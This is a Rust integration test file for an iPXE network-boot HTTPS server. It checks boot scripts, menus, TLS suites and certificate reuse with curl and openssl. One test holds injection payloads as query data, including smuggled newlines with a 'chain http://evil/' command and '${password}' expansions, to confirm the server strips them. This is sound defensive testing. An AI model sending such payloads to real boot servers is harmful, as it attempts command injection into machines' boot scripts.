//! The real binary over real TLS, checked with curl and openssl.

mod common;

use common::{identity_query, start, RULES};
use netboot_ipxe::fuzzing::assert_safe;
use netboot_testkit::process::have_tool;

#[test]
fn entry_script_calls_back_with_the_identity() {
    if !have_tool("curl", "curl") {
        return;
    }
    let server = start(RULES, &[], |_| {});
    let entry = server.get("/boot.ipxe");
    assert_safe(&entry);
    assert!(
        entry.contains("chain --autofree --replace /boot.ipxe/decide?mac=${netX/mac:hexhyp}&uuid=${uuid}"),
        "{entry}"
    );
    assert_eq!(server.get("/healthz"), "ok\n");
}

#[test]
fn unknown_machine_exits() {
    if !have_tool("curl", "curl") {
        return;
    }
    let server = start(RULES, &[], |_| {});
    let script = server.get(&format!(
        "/boot.ipxe/decide?{}",
        identity_query("52-54-00-99-99-99")
    ));
    assert_eq!(script, "#!ipxe\nexit 1\n");
    let log = server.drain_log().join("\n");
    assert!(
        log.contains("mac=52:54:00:99:99:99") && log.contains("decision=\"exit\""),
        "{log}"
    );
    assert!(log.contains("uuid=4c4c4544-0042-3510-8052-b4c04f4e4d32"), "{log}");
}

#[test]
fn one_required_action_counts_down_then_boots() {
    if !have_tool("curl", "curl") {
        return;
    }
    let server = start(RULES, &[], |_| {});
    let script = server.get(&format!(
        "/boot.ipxe/decide?{}",
        identity_query("52-54-00-00-00-01")
    ));
    assert_safe(&script);
    assert!(
        script.contains("prompt --timeout 5000 Booting Windows PE x64 in 5 seconds"),
        "{script}"
    );
    assert!(script.contains("goto a0\n"), "{script}");
    assert!(script.contains("kernel /wimboot || goto failed"), "{script}");
    assert!(
        script.contains("initrd --name BCD /winpe/BCD BCD || goto failed"),
        "{script}"
    );
    // The Required entry's boot image carries its mark (see `pxe_https::required`).
    let wim = script
        .lines()
        .find(|l| l.starts_with("initrd --name boot.wim /winpe/boot.wim?required_run="))
        .unwrap_or_else(|| panic!("{script}"));
    assert!(wim.ends_with(" boot.wim || goto failed"), "{wim}");
}

#[test]
fn several_actions_show_a_menu_with_the_required_one_preselected() {
    if !have_tool("curl", "curl") {
        return;
    }
    let server = start(RULES, &[], |_| {});
    // As iPXE's `params` + `##params` would send it: a form POST.
    let form = identity_query("52:54:00:00:00:02");
    let output = server.curl(&["--fail", "--data", &form, &server.https_url("/boot.ipxe/decide")]);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let script = String::from_utf8(output.stdout).unwrap();
    assert_safe(&script);
    assert!(script.contains("item a0 [R] Windows PE x64\n"), "{script}");
    assert!(script.contains("item a1 [A] Debian installer\n"), "{script}");
    assert!(
        script.contains("choose --timeout 30000 --default a0 selected || goto exit"),
        "{script}"
    );
    assert!(
        script.contains("kernel /debian/linux auto=true || goto failed"),
        "{script}"
    );
}

#[test]
fn malicious_identity_strings_never_reach_the_script() {
    if !have_tool("curl", "curl") {
        return;
    }
    let server = start(RULES, &[], |_| {});
    let huge_serial = "9".repeat(10 * 1024);
    let cases = [
        format!("{}&serial=${{password}}%0a:label%0achain%20http://evil/", identity_query("52-54-00-00-00-02")),
        format!("{}&serial={huge_serial}", identity_query("52-54-00-00-00-01")),
        "mac=${password}%0Aexit&platform=efi&buildarch=x86_64".to_owned(),
        "mac=52-54-00-00-00-01&platform=efi%0a:x&buildarch=${buildarch}%0d%0a".to_owned(),
        "mac=52-54-00-00-00-01&uuid=%00%1b[2J&platform=pcbios&buildarch=i386&product_hex=24:7b:70:61:73:73:7d".to_owned(),
    ];
    for query in &cases {
        let get = server.curl(&["--fail", &server.https_url(&format!("/boot.ipxe/decide?{query}"))]);
        let post = server.curl(&[
            "--fail",
            "--data-binary",
            query,
            &server.https_url("/boot.ipxe/decide"),
        ]);
        for output in [get, post] {
            assert!(
                output.status.success(),
                "{query}: {}",
                String::from_utf8_lossy(&output.stderr)
            );
            let script = String::from_utf8(output.stdout).unwrap();
            assert_safe(&script);
            assert!(
                !script.contains("password") && !script.contains("evil"),
                "{script}"
            );
        }
    }
    // A form body over the limit is refused, not buffered.
    let big = format!("serial={}", "x".repeat(64 * 1024));
    // HTTP/1.1 as iPXE speaks it; curl's HTTP/2 reports an early answer to an unsent upload
    // as an empty reply.
    let output = server.curl(&[
        "--http1.1",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "-H",
        "Expect: 100-continue",
        "--data-binary",
        &big,
        &server.https_url("/boot.ipxe/decide"),
    ]);
    // With `Expect: 100-continue` curl waits for the verdict before uploading, and the server
    // answers 413 from the declared length without polling the body, so no upload starts and
    // the 413 always arrives before the connection closes.
    assert_eq!(
        String::from_utf8_lossy(&output.stdout),
        "413",
        "curl: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

#[test]
fn tls_suites_that_modern_ipxe_offers_are_accepted() {
    if !have_tool("openssl", "openssl") {
        return;
    }
    let server = start(RULES, &[], |_| {});
    let connect = format!("127.0.0.1:{}", server.https.port());
    let handshake = |cipher: &str| {
        let output = std::process::Command::new("openssl")
            .args([
                "s_client",
                "-connect",
                &connect,
                "-tls1_2",
                "-cipher",
                cipher,
                "-groups",
                "X25519:P-256",
            ])
            .arg("-CAfile")
            .arg(server.cert())
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    // The site CA issues an ECDSA P-256 certificate; iPXE 2.0 offers these suites for it, and
    // P-256 among its groups (in TLS 1.2 those also bound the curve of an ECDSA certificate).
    for cipher in ["ECDHE-ECDSA-AES128-GCM-SHA256", "ECDHE-ECDSA-AES256-GCM-SHA384"] {
        let out = handshake(cipher);
        assert!(out.contains(&format!("Cipher is {cipher}")), "{cipher}: {out}");
        assert!(out.contains("Verify return code: 0 (ok)"), "{cipher}: {out}");
    }
    // CBC suites are not offered by rustls; iPXE builds that only have them use plain HTTP.
    let out = handshake("ECDHE-ECDSA-AES128-SHA256");
    assert!(!out.contains("Cipher is AES128-SHA256"), "{out}");
}

#[test]
fn generated_certificate_is_kept_across_restarts() {
    if !have_tool("curl", "curl") {
        return;
    }
    let first = start(RULES, &[], |_| {});
    let fingerprint = |log: &[String]| {
        log.iter().find_map(|l| {
            l.split("SHA-256 ")
                .nth(1)
                .map(|f| f.split_whitespace().next().unwrap().to_owned())
        })
    };
    let log = first.drain_log();
    let _ = log;
    let cert = std::fs::read(first.cert()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(first.cert(), dir.path().join("tls.crt")).unwrap();
    std::fs::copy(
        first.dir.path().join("state/pxe-https.key"),
        dir.path().join("tls.key"),
    )
    .unwrap();
    drop(first);

    // The same files given explicitly as PEM cert and key, through the CLI.
    let cert_arg = dir.path().join("tls.crt");
    let key_arg = dir.path().join("tls.key");
    let second = start(
        RULES,
        &[
            "--cert",
            cert_arg.to_str().unwrap(),
            "--key",
            key_arg.to_str().unwrap(),
            "--no-http",
        ],
        |_| {},
    );
    assert!(second.http.is_none());
    std::fs::write(second.cert(), &cert).unwrap();
    assert_eq!(second.get("/healthz"), "ok\n");
    let started = second.drain_log();
    let openssl_fp = std::process::Command::new("openssl")
        .args(["x509", "-noout", "-fingerprint", "-sha256", "-in"])
        .arg(&cert_arg)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).to_lowercase());
    if let (Some(logged), Ok(expected)) = (fingerprint(&started), openssl_fp) {
        assert!(
            expected.contains(&logged),
            "logged {logged}, openssl says {expected}"
        );
    }
}
